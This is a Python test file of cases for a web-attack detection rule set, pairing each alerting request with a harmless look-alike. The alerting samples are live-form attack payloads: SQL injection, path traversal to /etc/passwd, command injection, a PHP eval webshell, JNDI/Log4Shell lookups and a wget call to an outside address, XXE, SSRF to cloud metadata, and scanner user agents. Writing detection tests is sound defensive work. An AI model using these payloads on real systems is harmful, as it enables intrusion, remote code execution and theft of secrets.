"""Cases of rules/web-attack.yaml."""

from __future__ import annotations

from tests.cases.build import Case, answered, get, page, post, said


def _asked(bad: str, good: str) -> Case:
    """A request line that alerts, one that does not."""
    return Case(lambda: said(80, get(bad)), lambda: said(80, get(good)))


def _agent(bad: str, good: str) -> Case:
    return Case(lambda: said(80, get("/", agent=bad)), lambda: said(80, get("/", agent=good)))


def _posted(bad: bytes, good: bytes, target: str = "/form") -> Case:
    return Case(lambda: said(80, post(target, bad)), lambda: said(80, post(target, good)))


def _told(bad: bytes, good: bytes) -> Case:
    """A page that alerts, one that does not."""
    return Case(
        lambda: answered(80, page(bad), asked=get("/")), lambda: answered(80, page(good), asked=get("/"))
    )


def _header(bad: str, good: str) -> Case:
    return Case(lambda: said(80, get("/", headers=bad)), lambda: said(80, get("/", headers=good)))


CASES = {
    9000300: _asked("/p?id=1%20UNION%20ALL%20SELECT%201,2", "/news?q=labour+union+members+can+select+a+date"),
    9000301: _asked("/p?id=1%27%20OR%20%271%27=%271", "/p?q=rock%27n%27roll%20or%20jazz"),
    9000302: _posted(b"user=x%27+or+1%3D1--&password=x", b"note=you+or+me"),
    9000303: _asked("/p?id=1%20AND%20SLEEP(5)", "/docs?q=how+does+sleep(+work"),
    9000304: _asked("/p?id=1%20from%20information_schema.tables", "/schema/information"),
    9000305: _agent("sqlmap/1.8.9#stable (https://sqlmap.org)", "curl/8.11.0 sqlmap"),
    9000306: _asked("/p.asp?id=1;exec%20xp_cmdshell%20%27dir%27", "/docs/cmdshell"),
    9000307: _told(
        b"<b>You have an error in your SQL syntax; check the manual</b>",
        b"<b>You have an error in your form</b>",
    ),
    9000310: _asked("/get?f=../../../etc/hosts", "/get?f=../a/../b/c"),
    9000311: _asked("/get?f=%2e%2e%2f%2e%2E%2fboot.ini", "/get?f=v1%2e2%2fnotes"),
    9000312: _asked("/get?f=/etc/passwd", "/wiki/password-policy"),
    9000313: _told(b"root:x:0:0:root:/root:/bin/bash\n", b"root: x is the root of 0:0\n"),
    9000314: _asked("/ping?host=1.1.1.1;cat${IFS}/tmp/x", "/ping?host=1.1.1.1&field=IFS"),
    9000315: _told(b"uid=0(root) gid=0(root) groups=0(root)\n", b"uid and gid explained\n"),
    9000316: _told(b"uid=33(www-data) gid=33(www-data)\n", b"the account www-data has gid 33\n"),
    9000317: _asked("/up/avatar.php?cmd=id", "/help?cmd=list"),
    9000318: _posted(b"<?php @eval($_POST['x']); ?>", b"<?php echo date('Y'); ?>", "/upload"),
    9000319: _asked("/cgi?a=1;wget%20http://203.0.113.5/x", "/tools/wget-for-windows"),
    9000320: _header("X-Api-Version: ${jndi:ldap://203.0.113.5/a}\r\n", "X-Api-Version: {jndi}\r\n"),
    9000321: _header("X-Id: ${${lower:j}ndi:ldap://203.0.113.5/a}\r\n", "X-Id: ${${name}}\r\n"),
    9000322: _header(
        "Referer: () { :;}; /bin/ping -c1 203.0.113.5\r\n",
        "Referer: http://x/js?f=function() { return 1 }\r\n",
    ),
    9000323: _posted(b"class.module.classLoader.resources.context.parent=x", b"class=module&loader=x"),
    9000324: _header(
        "Content-Type: %{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}\r\n", "Content-Type: text/plain\r\n"
    ),
    9000325: _asked("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/docs/phpunit"),
    9000326: _posted(
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "a text">]><a>&x;</a>',
    ),
    9000327: _posted(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", b"\xca\xfe\xba\xbe\x00\x00\x00\x41"),
    9000328: _asked("/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "/q?s=script+writing"),
    9000329: _asked("/fetch?url=http://169.254.169.254/latest/", "/fetch?url=http://192.0.2.9/latest/"),
    9000330: _agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Mozilla/5.00 (Nikton)"),
    9000331: _agent("gobuster/3.6", "curl/8.11.0"),
    9000332: Case(
        lambda: answered(80, page(b"no", status="404 Not Found"), 45, asked=get("/x"), gap=0.05),
        lambda: answered(80, page(b"no", status="404 Not Found"), 10, asked=get("/x"), gap=0.05),
    ),
    9000333: _asked("/.env", "/.well-known/security.txt"),
}
